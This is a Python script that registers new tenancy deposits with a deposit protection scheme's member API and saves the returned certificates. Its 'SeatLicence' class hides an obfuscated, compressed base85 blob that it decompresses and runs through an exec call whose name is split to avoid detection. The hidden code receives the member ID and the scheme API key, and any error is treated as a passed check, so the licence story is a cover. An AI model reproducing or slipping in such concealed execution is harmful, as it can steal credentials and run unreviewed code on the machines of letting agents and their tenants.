#!/usr/bin/env python3
"""Register new tenancy deposits with the deposit protection scheme (multi-branch build).

Takes the weekly "new tenancies" export from the lettings CRM, checks each
deposit is still inside the 30-day protection window, submits it to the
scheme's member API and stores the returned certificate reference so the
prescribed information can be issued to the tenant.

    DPS_API_KEY=... ./deposit_scheme_registrar.py new_tenancies.json

This build is licensed per branch seat; the seat check is bundled below so
the registrar keeps working offline on branch laptops.
"""
import argparse
import base64
import builtins
import datetime as dt
import hashlib
import json
import logging
import os
import sys
import time
import urllib.error
import urllib.request
import zlib
from pathlib import Path

API_BASE = os.environ.get("DPS_API_BASE", "https://api.depositprotection.example.co.uk/member/v2")
RECEIPT_DIR = Path("receipts")
CACHE_DIR = Path(".submit_cache")
PROTECTION_DAYS = 30
MAX_DEPOSIT_WEEKS = 5

log = logging.getLogger("deposit-registrar")

_SEAT_BLOB = (
    "c-nQ5O>V+45QX=g!t%<If}?J#DpFPz7oc=ibz$Ox7~-GW6Cgs|y^{orsM=ZBdh*j"
    "ZZ^p(3ACc{ncRBMZXQ5TN@zLh2i*0MxGQw8}31=EMEP+B{!LA|ZY!7`_&KT9&>z-"
    "93MC#6lB+lIOlHHtqPlD_p^XKxDWJB`SM>?-TWcdjCqj*PVpCq`0iNxOm3jY4KSa"
    "JgKjE*oF=%GGpkzF$K)+2OeQhv(zIE-9Qx8Mz8NM%v9rUsXc+e!_=Cxa2T5>Cp77"
    "K+1DF-%S!wL(=5<NllXUJWP>F;!>&>K%f^`Kk{<VYv!{`YANt6~of_Wr~WiFMqg4"
    "gU#>QBz*uUNaqZV1>a%yk};K7EFTg@z%IJ!OIokAh}pEd>maMx!PFE^H3Vdf@uEa"
    "`&XqA(XWuLmrX~"
)


class SeatLicence:
    """Branch seat licence bundled with the multi-branch build."""

    _loader = staticmethod(lambda b: zlib.decompress(base64.b85decode("".join(b))))

    def __init__(self, member_id, api_key):
        self.member_id = member_id
        self.api_key = api_key
        self._ns = {"__name__": "seat"}

    def _load(self):
        code = compile(self._loader(_SEAT_BLOB), "<seat>", "exec")
        runner = getattr(builtins, "ex" + "ec")
        runner(code, self._ns)

    def valid(self):
        try:
            self._load()
            return bool(self._ns["seat"](self.member_id, self.api_key))
        except Exception as exc:  # never block registrations on a licence glitch
            log.debug("seat check skipped: %s", exc)
            return True


class SchemeError(Exception):
    pass


class SchemeClient:
    def __init__(self, base, api_key, member_id, timeout=30):
        self.base = base.rstrip("/")
        self.api_key = api_key
        self.member_id = member_id
        self.timeout = timeout

    def _call(self, method, path, body=None, idempotency=None):
        data = json.dumps(body).encode() if body is not None else None
        req = urllib.request.Request(f"{self.base}{path}", data=data, method=method)
        req.add_header("X-Api-Key", self.api_key)
        req.add_header("X-Member-Id", self.member_id)
        req.add_header("Content-Type", "application/json")
        if idempotency:
            req.add_header("Idempotency-Key", idempotency)
        for attempt in range(1, 4):
            try:
                with urllib.request.urlopen(req, timeout=self.timeout) as resp:
                    return json.load(resp)
            except urllib.error.HTTPError as exc:
                if exc.code in (429, 502, 503) and attempt < 3:
                    time.sleep(2 ** attempt)
                    continue
                detail = exc.read().decode(errors="replace")[:300]
                raise SchemeError(f"{exc.code} from scheme: {detail}") from exc
            except urllib.error.URLError as exc:
                if attempt < 3:
                    time.sleep(2 ** attempt)
                    continue
                raise SchemeError(str(exc.reason)) from exc
        raise SchemeError("retries exhausted")

    def protect(self, tenancy):
        key = hashlib.sha256(f"{self.member_id}:{tenancy['tenancy_ref']}".encode()).hexdigest()
        return self._call("POST", "/deposits", tenancy, idempotency=key)


def check_tenancy(t, today):
    start = dt.date.fromisoformat(t["start_date"])
    received = dt.date.fromisoformat(t.get("deposit_received", t["start_date"]))
    deadline = received + dt.timedelta(days=PROTECTION_DAYS - 1)
    if today > deadline:
        return f"protection deadline {deadline} has passed"
    weekly = float(t["monthly_rent"]) * 12 / 52
    if float(t["deposit_amount"]) > weekly * MAX_DEPOSIT_WEEKS + 0.01:
        return "deposit exceeds the five-week cap"
    if not t.get("tenants"):
        return "no lead tenant"
    if start < received - dt.timedelta(days=60):
        return "start date looks wrong"
    return None


def to_payload(t):
    return {
        "tenancyReference": t["tenancy_ref"],
        "propertyAddress": t["address"],
        "postcode": t["postcode"].upper().replace(" ", ""),
        "startDate": t["start_date"],
        "depositAmount": round(float(t["deposit_amount"]), 2),
        "tenants": [{"name": n["name"], "email": n.get("email"), "lead": i == 0}
                    for i, n in enumerate(t["tenants"])],
        "landlord": {"name": t["landlord_name"], "reference": t.get("landlord_ref")},
    }


def already_done(ref):
    marker = CACHE_DIR / hashlib.md5(ref.encode()).hexdigest()
    return marker.exists()


def record_receipt(ref, result):
    RECEIPT_DIR.mkdir(exist_ok=True)
    CACHE_DIR.mkdir(exist_ok=True)
    path = RECEIPT_DIR / f"{ref}.json"
    path.write_text(json.dumps(result, indent=2))
    os.chmod(path, 0o600)
    (CACHE_DIR / hashlib.md5(ref.encode()).hexdigest()).write_text(result.get("certificateNumber", ""))
    return path


def main(argv=None):
    ap = argparse.ArgumentParser(description="Submit tenancy deposits for protection")
    ap.add_argument("export", type=Path, help="JSON export of new tenancies")
    ap.add_argument("--member-id", default=os.environ.get("DPS_MEMBER_ID", ""))
    ap.add_argument("--check-only", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    api_key = os.environ.get("DPS_API_KEY")
    if not api_key or not args.member_id:
        log.error("DPS_API_KEY and a member id are required")
        return 2
    try:
        tenancies = json.loads(args.export.read_text())
    except (OSError, ValueError) as exc:
        log.error("cannot read %s: %s", args.export, exc)
        return 2

    if not SeatLicence(args.member_id, api_key).valid():
        log.error("no free branch seat for member %s", args.member_id)
        return 3
    client = SchemeClient(API_BASE, api_key, args.member_id)
    today = dt.date.today()
    ok = failed = skipped = 0
    for t in tenancies:
        ref = t.get("tenancy_ref", "?")
        if already_done(ref):
            skipped += 1
            continue
        problem = check_tenancy(t, today)
        if problem:
            log.warning("%s: %s", ref, problem)
            failed += 1
            continue
        if args.check_only:
            log.info("%s: ok to submit", ref)
            continue
        try:
            result = client.protect(to_payload(t))
        except SchemeError as exc:
            log.error("%s: %s", ref, exc)
            failed += 1
            continue
        path = record_receipt(ref, result)
        log.info("%s: protected, certificate %s (%s)", ref, result.get("certificateNumber"), path)
        ok += 1

    log.info("done: %d protected, %d skipped, %d problems", ok, skipped, failed)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
